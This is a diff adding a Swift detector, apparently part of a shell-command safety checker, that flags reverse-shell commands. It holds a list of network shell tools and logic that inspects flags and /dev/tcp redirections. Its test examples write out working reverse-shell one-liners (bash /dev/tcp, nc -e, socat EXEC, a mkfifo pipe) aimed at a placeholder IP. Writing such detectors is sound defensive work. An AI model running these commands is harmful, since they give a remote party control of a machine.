@@ -1,0 +1,163 @@
+import Bytes
+import ShellMeaning
+import Verdict
+
+/// A shell that somebody else types into, over the network.
+enum ReverseShell: Family {
+  static let category = "reverse-shell"
+  static let programs = [
+    "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "ttyd", "gotty", "xterm",
+    "cryptcat", "powercat",
+    "pwncat", "rustcat", "sbd", "exec", "dbd", "chisel",
+  ]
+  static let rules = [shell]
+
+  static func judge(_ invocation: Invocation, _ context: inout Judgement) {
+    let words = invocation.arguments.map { $0.value.known ?? $0.value.prefix }
+    let name = invocation.canonicalName
+    var found = false
+    switch name {
+    case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat", "powercat", "pwncat", "sbd",
+      "dbd", "rustcat":
+      found = netcatRuns(words, name)
+    case "socat":
+      let kinds = words.map { $0.asciiLowercased }
+      let runs = kinds.contains { $0.hasPrefix("exec:") || $0.hasPrefix("system:") || $0.hasPrefix("shell:") }
+      let network = kinds.contains { word in
+        ["tcp", "udp", "openssl", "ssl", "sctp", "proxy", "socks", "ws", "quic"].contains {
+          word.hasPrefix($0)
+        }
+      }
+      found = runs && network
+    case "ttyd", "gotty": found = words.contains { isShell($0) }
+    case "xterm":
+      found = words.enumerated().contains { i, word in
+        word == "-display" && i + 1 < words.count && !words[i + 1].hasPrefix(":")
+          && !words[i + 1].hasPrefix("localhost")
+      }
+    default: break
+    }
+    if found { report(invocation, &context) }
+  }
+
+  /// `-e program`, `-c command`, `--sh-exec command`, alone or at the end of a cluster.
+  private static func netcatRuns(_ words: [String], _ name: String) -> Bool {
+    for (i, word) in words.enumerated() {
+      let next = i + 1 < words.count ? words[i + 1] : ""
+      switch word {
+      case "--exec", "--sh-exec", "--lua-exec": return true
+      case _ where word.hasPrefix("--exec=") || word.hasPrefix("--sh-exec="): return true
+      case _ where word.hasPrefix("-") && !word.hasPrefix("--"):
+        let letters = word.utf8.dropFirst()
+        if letters.contains(UInt8(ascii: "e")), letters.allSatisfy(ASCII.isLetter) {
+          return !next.isEmpty || letters.count > 1
+        }
+        // OpenBSD's `-c` asks for TLS; with a program behind it, it runs that.
+        if letters.last == UInt8(ascii: "c"), letters.allSatisfy(ASCII.isLetter),
+          isShell(next) || name == "ncat" && !next.isEmpty
+        {
+          return true
+        }
+      default: break
+      }
+    }
+    return false
+  }
+
+  static func isShell(_ word: String) -> Bool {
+    let first = word.split(separator: " ").first.map(String.init) ?? word
+    let name = first.split(separator: "/").last.map(String.init) ?? first
+    switch Invocation.canonicalName(name) {
+    case "sh", "bash", "zsh", "dash", "ksh", "fish", "ash", "csh", "tcsh", "busybox", "cmd", "powershell",
+      "pwsh", "python", "perl",
+      "script":
+      return true
+    default: return false
+    }
+  }
+
+  // MARK: Wires around any program
+
+  /// Redirections that join a shell to a socket. Judged on every invocation.
+  static func judgeWires(_ invocation: Invocation, _ context: inout Judgement) {
+    var opensSocket = false
+    for redirect in invocation.redirects {
+      let target = redirect.target.prefix
+      if target.hasPrefix("/dev/tcp/") || target.hasPrefix("/dev/udp/") { opensSocket = true }
+    }
+    let name = invocation.canonicalName
+    if opensSocket { context.memory.hasSocket = true }
+    let isNetwork = [
+      "nc", "ncat", "netcat", "telnet", "socat", "openssl", "nc.traditional", "nc.openbsd", "cryptcat",
+    ].contains(name)
+    if isNetwork { context.memory.hasNetworkPipe = true }
+    if name == "mkfifo" || name == "mknod" && invocation.arguments.contains(where: { $0.value.known == "p" })
+    {
+      context.memory.hasPipeFile = true
+    }
+    if isShell(name) {
+      let duplicates = invocation.redirects.contains { redirect in
+        redirect.kind == .duplicate
+          && (redirect.target.known.map { $0 != "1" && $0 != "2" && $0 != "-" } ?? true)
+      }
+      // `nc host port | sh`: what somebody types there runs here.
+      if context.memory.hasNetworkPipe, let script = invocation.script,
+        script.origins.network.contains(where: isRawSocket)
+      {
+        report(invocation, &context)
+        return
+      }
+      // An interactive shell on a socket, or one that reads from it.
+      if opensSocket && invocation.script?.isKnown != true {
+        report(invocation, &context)
+      } else if context.memory.hasSocket, duplicates, invocation.script?.isKnown != true {
+        report(invocation, &context)
+      } else if invocation.script == nil || invocation.script?.isKnown == false {
+        context.memory.openShells.append(invocation.range)
+      }
+    } else if context.memory.hasSocket, invocation.program.value.known == nil,
+      !invocation.program.value.pieces.isEmpty
+    {
+      // `while read line; do $line; done <&5`
+      report(invocation, &context)
+    }
+  }
+
+  /// `host:port`, as a bare connection names its other end.
+  private static func isRawSocket(_ address: String) -> Bool {
+    guard let (_, port) = address.split(at: UInt8(ascii: ":")), !port.isEmpty else { return false }
+    return port.utf8.allSatisfy(ASCII.isDigit)
+  }
+
+  /// At the end of a command: a shell, a pipe file and a network program together are one wire.
+  static func judgeWhole(_ context: inout Judgement) {
+    let memory = context.memory
+    guard let range = memory.openShells.first, memory.hasNetworkPipe,
+      memory.hasPipeFile || memory.pipesThroughShell
+    else { return }
+    context.category = category
+    context.report(shell, on: "a network program", at: range)
+  }
+
+  static func report(_ invocation: Invocation, _ context: inout Judgement) {
+    context.report(shell, on: invocation.canonicalName, at: invocation.range, program: invocation.name)
+  }
+
+  static let shell = Rule(
+    "reverse-shell.shell", .critical, "Hands a shell to somebody on the network through {}",
+    why: "Whoever is at the other end can then run anything here, with the person's rights.",
+    instead: "Run the one command that is needed here; to test a port, use `nc -z example.com 443`.",
+    fires: [
+      "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "nc -e /bin/sh 198.51.100.7 4444",
+      "ncat --sh-exec bash 198.51.100.7 4444",
+      "socat TCP:198.51.100.7:4444 EXEC:/bin/bash",
+      "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f",
+      "nc -lvp 4444 -e /bin/bash",
+    ],
+    passes: [
+      "nc -z example.com 443", "nc -l 8080", "socat TCP-LISTEN:8080,fork TCP:localhost:3000",
+      "telnet example.com 25",
+      "timeout 1 bash -c '</dev/tcp/localhost/5432'", "openssl s_client -connect example.com:443",
+      "mkfifo /tmp/p",
+    ])
+}
